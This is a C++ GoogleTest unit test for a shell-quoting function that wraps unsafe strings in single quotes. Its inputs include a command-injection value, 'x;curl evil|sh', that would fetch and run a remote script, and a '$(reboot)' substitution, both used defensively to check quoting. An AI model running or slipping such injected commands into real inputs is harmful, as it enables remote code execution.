#include "cli/shell_word.h"

#include <gtest/gtest.h>

namespace postern::cli {
namespace {

TEST(ShellWord, WhatIsPlainStaysAndAllElseIsOneWord) {
  EXPECT_EQ(shell_word("laptop-7.example_1"), "laptop-7.example_1");
  EXPECT_EQ(shell_word(""), "''");
  EXPECT_EQ(shell_word("x;curl evil|sh"), "'x;curl evil|sh'");
  EXPECT_EQ(shell_word("$(reboot)"), "'$(reboot)'");
  EXPECT_EQ(shell_word("it's"), "'it'\\''s'");
  EXPECT_EQ(shell_word("b\xc3\xa4r"), "'b\xc3\xa4r'");
}

}  // namespace
}  // namespace postern::cli
